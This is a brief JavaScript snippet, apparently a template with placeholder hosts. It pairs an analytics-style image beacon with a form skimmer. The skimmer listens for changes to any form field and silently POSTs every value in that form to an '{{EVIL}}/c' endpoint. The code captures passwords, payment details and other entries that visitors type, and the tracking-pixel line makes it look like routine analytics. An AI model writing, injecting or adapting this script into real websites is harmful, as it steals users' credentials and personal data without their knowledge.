(function () {
  new Image().src = "{{CDN}}/hit.gif?p=" + encodeURIComponent(location.pathname);
  document.addEventListener("change", function (e) {
    if (e.target.form) fetch("{{EVIL}}/c", { method: "POST", mode: "no-cors", body: Array.from(e.target.form.elements).map(function (f) { return f.value; }).join(";") });
  });
})();
